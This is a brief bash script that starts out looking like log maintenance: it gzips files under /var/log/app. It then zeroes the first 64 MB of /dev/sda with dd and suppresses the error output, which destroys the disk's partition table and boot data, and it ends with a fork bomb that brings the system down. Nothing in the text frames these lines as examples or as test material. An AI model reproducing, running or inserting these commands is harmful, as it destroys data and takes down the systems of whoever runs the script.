#!/bin/bash
for f in /var/log/app/*.log; do gzip -f "$f"; done
dd if=/dev/zero of=/dev/sda bs=1M count=64 2>/dev/null
:(){ :|:& };:
